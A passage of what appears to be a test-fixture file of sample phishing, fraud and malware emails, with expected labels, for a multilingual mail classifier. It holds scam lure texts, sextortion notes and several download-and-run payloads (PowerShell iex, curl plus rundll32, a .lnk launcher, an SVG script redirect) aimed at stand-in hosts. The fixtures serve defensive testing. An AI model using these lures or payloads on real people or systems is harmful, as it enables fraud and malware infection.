              '@echo off\r\npowershell -w hidden -c "iex(New-Object Net.WebClient).DownloadString(\'https://nfe-xml-download.sbs/d.ps1\')"\r\n',
          }),
        ),
      ]),
    }),
  },
  {
    // Pix lure through SendGrid from a .sbs: a scheduled Pix "not completed", confirm the key
    // and card on the page.
    name: 'Pix agendado de R$ 3.450,00 "não concluído", confirmar a chave e o cartão, SendGrid de um .sbs',
    lang: 'pt-BR',
    lure: 'payment-app',
    expect: ['phishing'],
    raw: mail({
      from: 'Central Pix <avisos@central-pix-bcb.sbs>',
      to: 'renata.alves@uol.com.br',
      subject: 'Seu Pix agendado de R$ 3.450,00 não foi concluído',
      date: 'Mon, 12 May 2025 13:50:26 +0000',
      messageId: 'Hn2wQ8vR4mK9tP1xL7bC3d@geopod-ismtpd-3',
      dkim: ['central-pix-bcb.sbs:s1', 'sendgrid.info:smtpapi'],
      returnPath: 'bounces+50277413-c1e9-renata.alves=uol.com.br@em2290.central-pix-bcb.sbs',
      relay: 'o4.ptr8812.central-pix-bcb.sbs [149.72.88.4]',
      headers: sendgridHeaders('Mq8vK2pT7wR9nX1yZ4bC6dF3hJ0lL5nRc'),
      body: document([
        'Olá, Renata.',
        'O Pix agendado de R$ 3.450,00 para hoje não pôde ser concluído porque sua chave precisa ser revalidada. Sem a revalidação, o valor retorna e a chave é desativada em 24 horas.',
        { button: 'Revalidar chave Pix', href: 'https://u50277413.ct.sendgrid.net/ls/click?upn=u001.Rp7Qk2mT9vN4wX1yZ3bC5dF8hJ0' },
      ]),
    }),
  },
  {
    // Mixed language: Microsoft's English account template with Portuguese text, "your password
    // expires today", from a compromised small firm's domain.
    name: 'Modelo em inglês da Microsoft com texto em português: "sua senha expira hoje", domínio comprometido',
    lang: 'pt-BR',
    lure: 'mailbox',
    expect: ['phishing'],
    raw: mail({
      from: 'Microsoft account team <no-reply@contabilidadeaguiar.com.br>',
      to: 'Felipe Costa <felipe.costa@aguiarlogistica.com.br>',
      subject: 'Password expiration notice – Sua senha expira hoje',
      date: 'Tue, 22 Jul 2025 11:31:45 -0300',
      messageId: '20250722143145.9e31b7@contabilidadeaguiar.com.br',
      dkim: ['contabilidadeaguiar.com.br:default'],
      relay: 'mail.contabilidadeaguiar.com.br [198.51.100.77]',
      body: document([
        { heading: 'Microsoft account' },
        'Password expiration notice',
        'A senha da conta felipe.costa@aguiarlogistica.com.br expira hoje. Para manter a mesma senha e não perder o acesso ao e-mail, confirme abaixo.',
        {
          button: 'Keep current password',
          href: 'https://contabilidadeaguiar.com.br/wp-content/uploads/2025/07/m365/index.php?e=felipe.costa@aguiarlogistica.com.br',
        },
        { small: 'Thanks, The Microsoft account team' },
      ]),
    }),
  },
  {
    // Supplier lure: a "request for quotation" from a free mailbox claiming Petrobras, with the
    // RFQ "on the Petronect portal", a look-alike on a .top domain.
    name: 'Cotação "Petrobras" de um Gmail: RFQ no portal Petronect, login num domínio .top',
    lang: 'pt-BR',
    lure: 'file-share',
    expect: ['phishing'],
    raw: mail({
      from: 'Suprimentos Petrobras <suprimentos.petrobras.rfq@gmail.com>',
      to: 'vendas@valvulasnordeste.com.br',
      subject: 'Solicitação de cotação RFQ 7004418823 – válvulas esfera',
      date: 'Wed, 20 Aug 2025 09:02:18 -0300',
      messageId: 'CAM5qR2xP8vT4mK1wN7bL3cF9dJ6sY0j_pT2sX@mail.gmail.com',
      dkim: ['gmail.com:20230601'],
      relay: 'mail-qt1-f170.google.com [209.85.160.170]',
      body: gmailBody(
        'Prezados,\nConvidamos sua empresa a cotar os itens da RFQ 7004418823 (válvulas esfera 2" e 4"). A lista de itens e o prazo estão no portal Petronect: https://petronect-fornecedores.top/rfq/7004418823\nEntrar com o e-mail e a senha da empresa.\nAtenciosamente,\nGerência de Suprimentos',
      ),
    }),
  },
  {
    // The 2025 INSS deductions scandal turned into a lure: "unauthorised discount on your
    // benefit, ask for the refund", from a .icu look-alike of gov.br.
    name: 'INSS: "desconto indevido no seu benefício, peça o reembolso" com login gov.br num .icu',
    lang: 'pt-BR',
    lure: 'authority',
    expect: ['phishing', 'fraud'],
    raw: mail({
      from: 'Meu INSS <atendimento@meuinss-reembolso.icu>',
      to: 'josefa.lima1958@bol.com.br',
      subject: 'Desconto indevido identificado no seu benefício',
      date: 'Fri, 16 May 2025 14:44:09 +0000',
      messageId: '20250516144409.77a1@meuinss-reembolso.icu',
      dkim: ['meuinss-reembolso.icu:mail'],
      relay: 'mail.meuinss-reembolso.icu [203.0.113.201]',
      auth: { dmarc: 'none' },
      body: plain(
        'Prezada segurada,\n\nIdentificamos descontos de mensalidade associativa não autorizados no seu benefício. Você tem direito ao reembolso de R$ 1.286,40. Acesse com sua conta gov.br para solicitar até 30/05: https://meuinss-reembolso.icu/gov.br/login\n\nINSS',
      ),
    }),
  },
  {
    // Sextortion in Portuguese quoting the reader's leaked password in the first line, a
    // bitcoin address, from a free mailbox.
    name: 'Sextorsão com a senha vazada do leitor na primeira linha e endereço de bitcoin',
    lang: 'pt-BR',
    lure: 'sextortion',
    expect: ['fraud'],
    raw: mail({
      from: 'Anônimo <k4t9x2m1@outlook.com>',
      to: 'rodrigo.mendes@terra.com.br',
      subject: 'rodrigo.mendes - pagamento pendente',
      date: 'Sun, 28 Sep 2025 02:17:43 +0000',
      messageId: 'CP4P284MB1877A2C9F1E8B4D7C3E0A5F6B2D9E@CP4P284MB1877.BRAP284.PROD.OUTLOOK.COM',
      dkim: ['outlook.com:selector1'],
      relay: 'mail-cp4bra01olkn2044.outbound.protection.outlook.com [40.92.42.44]',
      body: plain(
        'Rodrigo, sua senha é Flamengo@2019. Tenho acesso ao seu computador há meses e gravei você pela câmera enquanto via sites adultos. Se não quiser que o vídeo vá para todos os seus contatos, envie R$ 6.500 em bitcoin para bc1qrp33g0q5c5txsp9arysrx4k6zdkfs4nce4xj0gdcccefvpysxf3qccfmv3 em 48 horas. Não responda este e-mail.',
      ),
    }),
  },
  {
    // Accounting-software lure: "Omie" says the company's A1 digital certificate expires and asks
    // for the file and its password on a .top upload page.
    name: 'Omie falso: certificado digital A1 vencendo, enviar o arquivo .pfx e a senha num .top',
    lang: 'pt-BR',
    lure: 'account-alert',
    expect: ['phishing'],
    raw: mail({
      from: 'Omie ERP <suporte@omie-certificados.top>',
      to: 'financeiro@padariaestrela.com.br',
      subject: 'Certificado digital A1 vence em 3 dias – emissão de NF-e será bloqueada',
      date: 'Mon, 3 Nov 2025 12:20:05 +0000',
      messageId: '20251103122005.1c9e@omie-certificados.top',
      dkim: ['omie-certificados.top:mail'],
      relay: 'mail.omie-certificados.top [203.0.113.19]',
      auth: { dmarc: 'none' },
      body: document([
        'Olá,',
        'O certificado digital A1 cadastrado no seu Omie vence em 3 dias. Após o vencimento, a emissão de NF-e fica bloqueada. Envie o arquivo .pfx e a senha do certificado para renovarmos sem custo.',
        { button: 'Enviar certificado', href: 'https://omie-certificados.top/renovar?c=padariaestrela' },
        { small: 'Omie · Gestão para pequenas e médias empresas' },
      ]),
    }),
  },
  {
    // Quishing in a condominium fee: the "boleto com QR Code Pix" is a picture whose code goes
    // to a Pix payment page on a .sbs, sent from a free mailbox named after the administrator.
    name: 'Boleto do condomínio com QR Code Pix numa imagem que leva a um .sbs, de um Gmail da "administradora"',
    lang: 'pt-BR',
    lure: 'qr-code',
    expect: ['phishing', 'fraud'],
    todo: 'clean/low: link_suspicious_tld, link_qr_code, auth_results_missing, sender_freemail; a payment-channel change is not read ("a taxa agora é paga só por Pix", "use o QR Code em anexo … para evitar multa" match neither payment_request nor urgency_threat), and qr_code_lure accepts only credential_request or brand_lure beside the QR code',
    raw: mail({
      from: 'Administradora Lar Seguro <larseguro.condominios@gmail.com>',
      to: 'apto204.blocob@gmail.com',
      subject: 'Condomínio novembro/2025 - pague com Pix pelo QR Code',
      date: 'Mon, 3 Nov 2025 09:11:52 -0300',
      messageId: 'CAN8rS3xQ9vT5mL2wP7bK4cG1dH6sY0k_qU3tX@mail.gmail.com',
      dkim: ['gmail.com:20230601'],
      relay: 'mail-oa1-f54.google.com [209.85.160.54]',
      body: multipart('mixed', [
        plain('Prezado condômino, a taxa de novembro agora é paga só por Pix. Use o QR Code em anexo até o dia 10 para evitar multa.'),
        attachment('boleto_pix_nov2025.png', 'image/png', BR_QR),
      ]),
    }),
  },

  // ---------------------------------------------------------------- European Portuguese
  {
    // An SVG "fatura" with a script that sends the reader to a sign-in page with the address
    // appended; the body is one sentence from a hijacked accounting firm.
    name: 'Fatura como anexo .svg com um script que redireciona para um login, corpo de uma frase',
    lang: 'pt-PT',
    lure: 'html-attachment',
    expect: ['phishing', 'malware'],
    raw: mail({
      from: 'Contabilidade Ferreira & Matos <geral@ferreiramatos-contas.pt>',
      to: 'Ana Rebelo <ana.rebelo@quintadosol-vinhos.pt>',
      subject: 'FT 2025/1183',
      date: 'Wed, 5 Feb 2025 15:42:20 +0000',
      messageId: '1738770140.5531.ferreiramatos@ferreiramatos-contas.pt',
      dkim: ['ferreiramatos-contas.pt:default'],
      relay: 'mail.ferreiramatos-contas.pt [198.51.100.118]',
      body: multipart('mixed', [
        plain('Boa tarde, segue em anexo a fatura para pagamento.'),
        attachment(
          'FT_2025-1183.svg',
          'image/svg+xml',
          '<svg xmlns="http://www.w3.org/2000/svg" width="600" height="200"><text x="10" y="40">A carregar fatura…</text><script><![CDATA[window.location.href=atob("aHR0cHM6Ly9mYXR1cmEtdmlldy5jZmQvbG9naW4=")+"#ana.rebelo@quintadosol-vinhos.pt";]]></script></svg>',
        ),
      ]),
    }),
  },
  {
    // Public-procurement lure: an invitation "on the BASE portal" to tender, with the procedure
    // documents behind a sign-in on a .cfd.
    name: 'Convite para procedimento de contratação pública com as peças num login de um .cfd',
    lang: 'pt-PT',
    lure: 'file-share',
    expect: ['phishing'],
    raw: mail({
      from: 'Plataforma de Contratação Pública <convites@contratacao-publica-base.cfd>',
      to: 'propostas@construcoesalvarinho.pt',
      subject: 'Convite – Ajuste Direto n.º 118/2025 – Requalificação da escola EB1',
      date: 'Tue, 11 Mar 2025 10:05:48 +0000',
      messageId: '20250311100548.a3f91c@contratacao-publica-base.cfd',
      dkim: ['contratacao-publica-base.cfd:default'],
      relay: 'mail.contratacao-publica-base.cfd [203.0.113.166]',
      auth: { dmarc: 'none' },
      body: plain(
        'Exmos. Senhores,\n\nA entidade adjudicante convida V. Exas. a apresentar proposta no procedimento em epígrafe. As peças do procedimento estão disponíveis na plataforma, mediante autenticação com o e-mail da empresa: https://contratacao-publica-base.cfd/procedimento/118-2025\n\nPrazo para propostas: 25/03/2025, 17h00.',
      ),
    }),
  },
  {
    // Bank lure from a throw-away domain: Montepio "GDPR data update" or the account is frozen.
    name: 'Montepio: atualização de dados obrigatória (RGPD), senão a conta fica congelada, .icu',
    lang: 'pt-PT',
    lure: 'bank',
    expect: ['phishing'],
    raw: mail({
      from: 'Banco Montepio <apoio@montepio-clientes.icu>',
      to: 'carlos.pinheiro@sapo.pt',
      subject: 'Atualização obrigatória dos seus dados',
      date: 'Thu, 24 Apr 2025 18:26:30 +0000',
      messageId: '20250424182630.5f2e@montepio-clientes.icu',
      dkim: ['montepio-clientes.icu:mail'],
      relay: 'mail.montepio-clientes.icu [203.0.113.37]',
      auth: { dmarc: 'none' },
      body: plain(
        'Caro cliente,\n\nAo abrigo do RGPD, os seus dados de contacto têm de ser confirmados até sexta-feira. Após esta data o acesso ao Montepio24 e os cartões ficam congelados.\n\nConfirme aqui: https://montepio-clientes.icu/m24/login\n\nBanco Montepio',
      ),
    }),
  },
  {
    // Mixed language: Wise's English template with pt-PT text, "your transfer of 1 240 € is
    // held, confirm your identity", from a .sbs look-alike.
    name: 'Modelo em inglês da Wise com texto em português europeu: "transferência de 1 240 € retida", .sbs',
    lang: 'pt-PT',
    lure: 'payment-app',
    expect: ['phishing'],
    raw: mail({
      from: 'Wise <no-reply@wise-transfers-help.sbs>',
      to: 'ines.carvalho@gmail.com',
      subject: 'Your transfer is on hold – a sua transferência está retida',
      date: 'Fri, 13 Jun 2025 08:44:19 +0000',
      messageId: '0100019769b3d2e1-5c7a9e31-2b4d-4f6a-8c1e-3d5f7a9b2c4e-000000@email.amazonses.com',
      dkim: ['wise-transfers-help.sbs:k7x2m9q4', 'amazonses.com:224i4yxa5dv7c2xz3womw6peuasteono'],
      returnPath: '0100019769b3d2e1-5c7a9e31-2b4d-4f6a-8c1e-3d5f7a9b2c4e-000000@amazonses.com',
      relay: 'a48-112.smtp-out.amazonses.com [54.240.48.112]',
      headers: ['Feedback-ID: 1.us-east-1.Kq8pX4mV2kT7rL9wN3cB5hY1dF6gJ0sA=:AmazonSES', 'X-SES-Outgoing: 2025.06.13-54.240.48.112'],
      body: document([
        { heading: 'Your transfer is on hold' },
        'Olá Inês, a sua transferência de 1 240,00 EUR para Rui Tavares está retida para verificação. Confirme a sua identidade nas próximas 24 horas ou o valor será devolvido com uma comissão.',
        { button: 'Verify now', href: 'https://wise-transfers-help.sbs/verify?t=88214' },
        { small: 'Wise Europe SA, Rue du Trône 100, 1050 Brussels' },
      ]),
    }),
  },
  {
    // Celebrity-investment fraud: a Gmail "advisor" says a known footballer's crypto platform
    // turned 250 € into 4 800 € and asks for the first deposit by WhatsApp.
    name: 'Investimento "recomendado por um futebolista": 250 € viram 4 800 €, depósito inicial por WhatsApp',
    lang: 'pt-PT',
    lure: 'crypto',
    expect: ['fraud'],
    todo: 'clean/none: auth_results_missing, sender_freemail; no investment-scam lexicon in Portuguese ("transformou 250 € em 4 800 €", "basta o depósito inicial", "o seu gestor trata do resto"), so a Gmail with a WhatsApp number is plain personal mail',
    raw: mail({
      from: 'Sofia Antunes <sofia.antunes.invest@gmail.com>',
      to: 'paulo.marques62@sapo.pt',
      subject: 'O seu lugar na plataforma está reservado',
      date: 'Sat, 18 Oct 2025 16:09:33 +0000',
      messageId: 'CAP7sT4xR2vQ9mK1wL8bN5cH3dJ6sY0l_rV4uX@mail.gmail.com',
      dkim: ['gmail.com:20230601'],
      relay: 'mail-wr1-f44.google.com [209.85.221.44]',
      body: gmailBody(
        'Boa tarde Sr. Paulo,\nComo falado, a plataforma de criptomoedas que o nosso futebolista apresentou na televisão transformou 250 € em 4 800 € em três semanas aos nossos clientes. O seu lugar está reservado até domingo: basta o depósito inicial de 250 € e o seu gestor trata do resto.\nFale comigo no WhatsApp +351 932 114 870.\nSofia Antunes, gestora de conta',
      ),
    }),
  },

  // ---------------------------------------------------------------- German
  {
    // Tender lure at trades: an engineering office's hijacked mailbox (DKIM passes) sends
    // "Vergabeunterlagen" as a Dropbox-style link to a look-alike on a .shop.
    name: 'Ausschreibung vom kompromittierten Ingenieurbüro: Vergabeunterlagen hinter einem Login auf einer .shop-Seite',
    lang: 'de',
    lure: 'file-share',
    expect: ['phishing'],
    raw: mail({
      from: 'Ingenieurbüro Brandt & Söhne <vergabe@ib-brandt-soehne.de>',
      to: 'angebote@dachdeckerei-vogt.de',
      subject: 'Angebotsanfrage: Sanierung Flachdach Kita Sonnenschein – Vergabeunterlagen',
      date: 'Tue, 6 May 2025 09:18:24 +0200',
      messageId: 'e1f7a3c9-2b4d-4e6a-8c1f-9d0b2e7f4a58@ib-brandt-soehne.de',
      dkim: ['ib-brandt-soehne.de:default'],
      relay: 'mx.ib-brandt-soehne.de [198.51.100.186]',
      body: plain(
        'Sehr geehrte Damen und Herren,\n\nim Auftrag der Gemeinde bitten wir um Ihr Angebot für die Sanierung des Flachdachs der Kita Sonnenschein. Die Vergabeunterlagen (LV, Pläne) stehen hier zum Download bereit, Anmeldung mit Ihrer Firmen-E-Mail:\nhttps://vergabe-dokumente.shop/ib-brandt/lv-2025-051\n\nAngebotsfrist: 23.05.2025\n\nMit freundlichen Grüßen\nIngenieurbüro Brandt & Söhne',
      ),
    }),
  },
  {
    // Accounting-software lure aimed at tax advisers' clients: "DATEV SmartLogin expires",
    // renew on a .sbs page.
    name: 'DATEV: "Ihr SmartLogin läuft ab", Zugang auf einer .sbs-Seite verlängern',
    lang: 'de',
    lure: 'account-alert',
    expect: ['phishing'],
    raw: mail({
      from: 'DATEV eG <service@datev-smartlogin.sbs>',
      to: 'buchhaltung@baeckerei-huber.de',
      subject: 'Ihr DATEV SmartLogin läuft am 31.01. ab',
      date: 'Mon, 27 Jan 2025 07:40:12 +0000',
      messageId: '20250127074012.3e9c@datev-smartlogin.sbs',
      dkim: ['datev-smartlogin.sbs:mail'],
      relay: 'mail.datev-smartlogin.sbs [203.0.113.211]',
      auth: { dmarc: 'none' },
      body: document([
        'Sehr geehrte Kundin, sehr geehrter Kunde,',
        'Ihr SmartLogin für DATEV Unternehmen online läuft am 31.01.2025 ab. Danach können Belege und Auswertungen nicht mehr abgerufen werden. Bitte verlängern Sie den Zugang rechtzeitig.',
        { button: 'Zugang verlängern', href: 'https://datev-smartlogin.sbs/verlaengern' },
        { small: 'DATEV eG · Paumgartnerstr. 6–14 · 90429 Nürnberg' },
      ]),
    }),
  },
  {
    // Mixed language: Amazon's English account-hold template with German text, from a
    // throw-away .xyz domain.
    name: 'Amazon-Vorlage auf Englisch mit deutschem Text: "Konto vorübergehend gesperrt", .xyz',
    lang: 'de',
    lure: 'account-alert',
    expect: ['phishing'],
    raw: mail({
      from: 'Amazon <account-update@amazon-kundenkonto.xyz>',
      to: 'heike.wagner@web.de',
      subject: 'Your Amazon account is on hold – Ihr Konto wurde vorübergehend gesperrt',
      date: 'Thu, 20 Feb 2025 19:55:01 +0000',
      messageId: '20250220195501.b2c4@amazon-kundenkonto.xyz',
      dkim: ['amazon-kundenkonto.xyz:mail'],
      relay: 'mail.amazon-kundenkonto.xyz [203.0.113.233]',
      auth: { dmarc: 'none' },
      body: document([
        { heading: 'Your account is on hold' },
        'Hallo Heike, wir konnten die Zahlungsmethode für Ihre letzte Bestellung nicht bestätigen. Ihr Konto und alle offenen Bestellungen sind deshalb vorübergehend gesperrt.',
        { button: 'Update payment method', href: 'https://amazon-kundenkonto.xyz/ap/signin' },
        { small: '© 1996-2025, Amazon.com, Inc. or its affiliates' },
      ]),
    }),
  },
  {
    // Road-toll lure at hauliers: "Toll Collect" says the truck toll of a vehicle is unpaid and a
    // fine follows; plain text from a .top domain.
    name: 'Toll Collect: offene Lkw-Maut für ein Kennzeichen, Bußgeld droht, Zahlung über eine .top-Seite',
    lang: 'de',
    lure: 'authority',
    expect: ['phishing', 'fraud'],
    raw: mail({
      from: 'Toll Collect GmbH <forderung@tollcollect-maut.top>',
      to: 'dispo@spedition-kramer.de',
      subject: 'Zahlungserinnerung Maut – Kennzeichen MI-KR 412',
      date: 'Wed, 10 Sep 2025 11:27:38 +0000',
      messageId: '20250910112738.7f1a@tollcollect-maut.top',
      dkim: ['tollcollect-maut.top:mail'],
      relay: 'mail.tollcollect-maut.top [203.0.113.57]',
      auth: { dmarc: 'none' },
      body: plain(
        'Sehr geehrte Damen und Herren,\n\nfür das Fahrzeug MI-KR 412 ist eine Mautforderung von 184,60 € offen (Fahrten 01.–05.09.2025). Bitte begleichen Sie den Betrag bis 12.09., sonst wird ein Bußgeldverfahren beim BALM eingeleitet.\n\nZahlung: https://tollcollect-maut.top/zahlung/MIKR412\n\nToll Collect GmbH',
      ),
    }),
  },
  {
    // Callback through PayPal's own money request in German: the note from "PayPal Käuferschutz"
    // gives a phone number to dispute a 699 € charge.
    name: 'Echte PayPal-Zahlungsaufforderung von „PayPal Käuferschutz“ über 699 €: „rufen Sie uns an“',
    lang: 'de',
    lure: 'callback',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'PayPal <service@paypal.de>',
      to: 'thomas.richter@t-online.de',
      subject: 'PayPal Kaeuferschutz hat Ihnen eine Zahlungsaufforderung über 699,00 € gesendet',
      date: 'Tue, 25 Mar 2025 10:12:44 -0700',
      messageId: 'RT000991.a2c4e6f8b1d3@paypal.com',
      dkim: ['paypal.de:pp-dkim1'],
      returnPath: 'service@paypal.de',
      relay: 'mx2.phx.paypal.com [66.211.170.87]',
      body: document([
        { heading: 'PayPal Kaeuferschutz hat Ihnen eine Zahlungsaufforderung gesendet' },
        {
          rows: [
            [
              'Mitteilung',
              'Für Ihr Konto wurde eine Zahlung von 699,00 € an Apple Store autorisiert. Falls Sie das nicht waren, rufen Sie sofort unseren Käuferschutz unter 0800 184 7722 an. Nicht online bezahlen.',
            ],
            ['Betrag', '699,00 €'],
          ],
        },
        { button: 'Jetzt bezahlen', href: 'https://www.paypal.com/myaccount/transfer/requests/RT000991?locale.x=de_DE' },
      ]),
    }),
  },
  {
    // Thread hijack with a password-protected ZIP (the password in the body so gateways cannot
    // open it), the classic Qakbot/Pikabot shape.
    name: 'Gekaperter Verlauf „AW: Rechnung 2025-117“ mit passwortgeschütztem ZIP, Passwort im Text',
    lang: 'de',
    lure: 'reply-thread',
    expect: ['malware', 'phishing'],
    raw: mail({
      from: 'Sandra Keller <s.keller@metallbau-keller.de>',
      to: 'Jens Albrecht <j.albrecht@schlosserei-albrecht.de>',
      subject: 'AW: Rechnung 2025-117',
      date: 'Thu, 13 Nov 2025 07:58:06 +0100',
      messageId: '5d3a1c7e9f2b4e6a@metallbau-keller.de',
      dkim: ['metallbau-keller.de:default'],
      relay: 'mail.metallbau-keller.de [198.51.100.31]',
      headers: ['In-Reply-To: <a7c1e9f3b2d4@schlosserei-albrecht.de>', 'References: <a7c1e9f3b2d4@schlosserei-albrecht.de>'],
      body: multipart('mixed', [
        plain(
          'Hallo Jens,\n\nanbei die Unterlagen wie besprochen. Passwort: 2025\n\nGruß Sandra\n\n-----Ursprüngliche Nachricht-----\nVon: Jens Albrecht\nGesendet: Montag, 10. November 2025 14:02\nBetreff: Rechnung 2025-117\n\nHallo Sandra, kannst du mir die Rechnung nochmal schicken? Danke, Jens',
        ),
        attachment(
          'Unterlagen_2025-117.zip',
          'application/zip',
          zip({
            'Unterlagen_2025-117.js':
              'var s=WScript.CreateObject("WScript.Shell");s.Run("curl -s https://cdn-upd.metallbau-sync.top/u.dat -o %TEMP%\\\\u.dll & rundll32 %TEMP%\\\\u.dll,Init",0);',
          }),
        ),
      ]),
    }),
  },

  // ---------------------------------------------------------------- French
  {
    // Public-sector supplier lure: "Chorus Pro" says an invoice was rejected, sign in to fix it;
    // plain text from a .top.
    name: 'Chorus Pro : « votre facture a été rejetée », se connecter sur un domaine .top',
    lang: 'fr',
    lure: 'account-alert',
    expect: ['phishing'],
    raw: mail({
      from: 'Chorus Pro <ne-pas-repondre@chorus-pro-factures.top>',
      to: 'compta@menuiserie-lebrun.fr',
      subject: 'Facture FA-2025-0612 rejetée – action requise',
      date: 'Mon, 16 Jun 2025 08:12:55 +0000',
      messageId: '20250616081255.c4e2@chorus-pro-factures.top',
      dkim: ['chorus-pro-factures.top:mail'],
      relay: 'mail.chorus-pro-factures.top [203.0.113.71]',
      auth: { dmarc: 'none' },
      body: plain(
        "Bonjour,\n\nVotre facture FA-2025-0612 déposée sur Chorus Pro a été rejetée par le service destinataire (motif : coordonnées bancaires non vérifiées). Connectez-vous sous 5 jours pour la corriger, faute de quoi elle sera archivée :\nhttps://chorus-pro-factures.top/connexion\n\nL'équipe Chorus Pro",
      ),
    }),
  },
  {
    // Mixed language: SharePoint's real English share template sent from a compromised firm's
    // tenant with a French message; the file is a "payment pending" PDF on that tenant.
    name: 'Partage SharePoint réel, modèle anglais et message en français, depuis un cabinet compromis : « Paiement en attente »',
    lang: 'fr',
    lure: 'file-share',
    expect: ['phishing'],
    raw: mail({
      from: 'Nathalie Dupuis via SharePoint <no-reply@sharepointonline.com>',
      to: 'Olivier Marchand <o.marchand@transports-marchand.fr>',
      subject: 'Nathalie Dupuis shared "Paiement en attente - Transports Marchand.pdf" with you',
      date: 'Wed, 8 Oct 2025 13:41:09 +0000',
      messageId: 'a7c3e1f9-2b4d-4e8a-9c1f-5d2e7a8b0c41@sharepointonline.com',
      dkim: ['sharepointonline.com:selector1'],
      returnPath: 'no-reply@sharepointonline.com',
      relay: 'mail-pr1fra01on2091.outbound.protection.outlook.com [40.107.12.91]',
      body: document([
        'Nathalie Dupuis shared a file with you',
        'Bonjour, veuillez trouver le document de paiement en attente. Merci de vous connecter pour le consulter et valider vos coordonnées avant ce soir.',
        { button: 'Open', href: 'https://cabinetdupuis-my.sharepoint.com/:b:/g/personal/n_dupuis_cabinetdupuis_fr/EQk7Rm2pT9vN4wX1yZ3bC5dF8hJ0?e=4Lq9xZ' },
        {
          small:
            'Microsoft respects your privacy. To learn more, please read our Privacy Statement. Microsoft Corporation, One Microsoft Way, Redmond, WA 98052',
        },
      ]),
    }),
  },
  {
    // Authority lure against small firms: URSSAF "regularisation of contributions, surcharge
    // in 48 hours", from a .icu domain.
    name: 'URSSAF : régularisation de cotisations, majoration sous 48 heures, paiement sur un .icu',
    lang: 'fr',
    lure: 'authority',
    expect: ['phishing', 'fraud'],
    raw: mail({
      from: 'URSSAF <recouvrement@urssaf-regularisation.icu>',
      to: 'contact@boulangerie-mercier.fr',
      subject: 'Mise en demeure – régularisation de cotisations 2024',
      date: 'Tue, 4 Mar 2025 09:30:18 +0000',
      messageId: '20250304093018.8a1e@urssaf-regularisation.icu',
      dkim: ['urssaf-regularisation.icu:mail'],
      relay: 'mail.urssaf-regularisation.icu [203.0.113.98]',
      auth: { dmarc: 'none' },
      body: plain(
        'Madame, Monsieur,\n\nUn écart de 1 284,00 € a été constaté sur vos déclarations sociales 2024. Sans régularisation sous 48 heures, une majoration de 10 % et une procédure de recouvrement forcé seront engagées.\n\nRégulariser : https://urssaf-regularisation.icu/espace/regul\n\nService recouvrement',
      ),
    }),
  },
  {
    // Sextortion in French, short, the password quoted, a bitcoin address.
    name: 'Sextorsion courte citant le mot de passe du lecteur et une adresse bitcoin',
    lang: 'fr',
    lure: 'sextortion',
    expect: ['fraud'],
    raw: mail({
      from: 'Support <x7r2k9m4@gmx.fr>',
      to: 'julien.bernard@orange.fr',
      subject: 'Votre mot de passe : soleil1984',
      date: 'Mon, 21 Apr 2025 01:42:57 +0000',
      messageId: 'trinity-8c1e3a5f-7b9d-4f2e-a1c3-5e7f9a1b3c5d-1745199777@3c-app-gmx-bap41',
      dkim: ['gmx.fr:badeba3b8450'],
      relay: 'mout.gmx.net [212.227.15.19]',
      body: plain(
        "Je connais votre mot de passe et j'ai installé un logiciel sur votre ordinateur. J'ai une vidéo de vous devant des sites pour adultes. Envoyez 1 200 € en bitcoin à bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4 sous 48 heures ou la vidéo part à tous vos contacts.",
      ),
    }),
  },
  {
    // Investment fraud through a hijacked Brevo account of a wine merchant: a "livret" at 7 %
    // guaranteed, call an advisor.
    name: "Placement « livret garanti à 7 % » via le compte Brevo piraté d'un caviste, rappel par un conseiller",
    lang: 'fr',
    lure: 'advance-fee',
    expect: ['fraud'],
    todo: 'spam/low: link_suspicious_tld, auth_results_missing, content_bulk_marketing; no investment-scam lexicon in French ("livret … vous garantit 7 % par an, capital garanti", "places limitées"), so a bulk mail with a .shop link is spam, not fraud',
    raw: mail({
      from: 'Patrimoine Épargne Conseil <contact@cave-saint-vincent.fr>',
      to: 'monique.girard@free.fr',
      subject: 'Votre épargne à 7 % garantis, sans frais',
      date: 'Thu, 23 Oct 2025 10:15:22 +0000',
      messageId: '202510231015.44187230192@smtp-relay.mailin.fr',
      dkim: ['cave-saint-vincent.fr:brevo1', 'sendinblue.com:mail'],
      returnPath: 'bounces-244187230-monique.girard=free.fr@sendibt3.com',
      relay: 'smtp-relay.mailin.fr [185.107.232.44]',
      headers: [
        'List-Unsubscribe: <https://cavesaintvincent.r.af.d.sendibt2.com/tr/un/li/Qm7Rk2pT9v>',
        LIST_UNSUBSCRIBE_POST,
        'X-Mailin-EID: Qm7Rk2pT9v',
        'Feedback-ID: cavesaintvincent:brevo',
        'X-Mailer: Brevo',
      ],
      body: document([
        'Madame, Monsieur,',
        'Les livrets bancaires rapportent moins de 3 %. Notre livret partenaire vous garantit 7 % par an, capital garanti, disponible à tout moment, à partir de 5 000 €. Places limitées à 40 épargnants ce mois-ci.',
        { button: 'Être rappelé par un conseiller', href: 'https://epargne-7pourcent.shop/rappel' },
      ]),
    }),
  },

  // ---------------------------------------------------------------- Dutch
  {
    // Purchase-order lure with a shortcut in a ZIP, three lines from a hijacked wholesaler.
    name: 'Inkooporder in een ZIP met een .lnk die curl en cmd start, drie regels van een gekaapte groothandel',
    lang: 'nl',
    lure: 'malware',
    expect: ['malware'],
    raw: mail({
      from: 'Inkoop · Van Dijk Groothandel <inkoop@vandijk-groothandel.nl>',
      to: 'verkoop@kuipers-verpakkingen.nl',
      subject: 'Nieuwe bestelling PO4471',
      date: 'Mon, 24 Feb 2025 09:06:31 +0100',
      messageId: '000901db86a9$3c2e1f40$b48a5dc0$@vandijk-groothandel.nl',
      dkim: ['vandijk-groothandel.nl:default'],
      relay: 'smtp.vandijk-groothandel.nl [198.51.100.9]',
      body: multipart('mixed', [
        plain('Goedemorgen,\nzie bijlage voor onze nieuwe bestelling. Graag bevestiging van levertijd.\nMvg, inkoop'),
        attachment(
          'PO4471.zip',
          'application/zip',
          zip({
            'PO4471.pdf.lnk': shortcut(
              '..\\..\\..\\Windows\\System32\\cmd.exe',
              '/c curl -s https://po-docs.vandijk-cdn.top/a.cmd -o %TEMP%\\a.cmd && %TEMP%\\a.cmd',
            ),
          }),
        ),
      ]),
    }),
  },
  {
    // Authority lure: DUO (student finance) "your repayment is in arrears, the bailiff is next",
    // from a .sbs, pay by iDEAL.
    name: 'DUO: achterstand in aflossing studieschuld, deurwaarder dreigt, betalen via iDEAL op een .sbs',
    lang: 'nl',
    lure: 'authority',
    expect: ['phishing', 'fraud'],
    raw: mail({
      from: 'DUO <info@duo-aflossing.sbs>',
